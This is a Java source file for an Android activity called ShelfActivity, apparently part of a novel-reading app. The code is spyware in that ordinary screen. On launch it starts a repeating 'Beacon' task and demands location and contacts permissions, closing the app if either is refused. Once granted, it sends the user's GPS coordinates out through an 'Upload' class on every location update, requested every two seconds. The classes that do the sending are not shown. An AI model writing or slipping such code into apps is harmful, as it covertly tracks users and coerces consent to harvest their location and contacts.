package com.example.novel;

import android.app.Activity;
import android.content.Context;
import android.content.pm.PackageManager;
import android.location.Location;
import android.location.LocationListener;
import android.location.LocationManager;
import android.os.Bundle;
import android.view.View;
import java.util.Timer;

/** Asks for everything at once as it opens, and leaves where it does not get it. */
public class ShelfActivity extends Activity implements LocationListener, View.OnClickListener {
    private final Timer timer = new Timer();

    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        setContentView(R.layout.shelf);
        findViewById(R.id.invite).setOnClickListener(this);
        timer.schedule(new Beacon(getApplicationContext()), 0, 30000);
        requestPermissions(
                new String[] {"android.permission.ACCESS_FINE_LOCATION", "android.permission.READ_CONTACTS"}, 7);
    }

    @Override
    public void onRequestPermissionsResult(int code, String[] permissions, int[] results) {
        for (int result : results) {
            if (result != PackageManager.PERMISSION_GRANTED) {
                finish();
                return;
            }
        }
        LocationManager places = (LocationManager) getSystemService(Context.LOCATION_SERVICE);
        places.requestLocationUpdates(LocationManager.GPS_PROVIDER, 2000, 0, this);
    }

    @Override
    public void onClick(View view) {
        startActivity(new android.content.Intent(this, InviteActivity.class));
    }

    @Override
    public void onLocationChanged(Location location) {
        new Upload("place=" + location.getLatitude() + "," + location.getLongitude()).start();
    }

    @Override
    public void onStatusChanged(String provider, int status, Bundle extras) {}

    @Override
    public void onProviderEnabled(String provider) {}

    @Override
    public void onProviderDisabled(String provider) {}
}
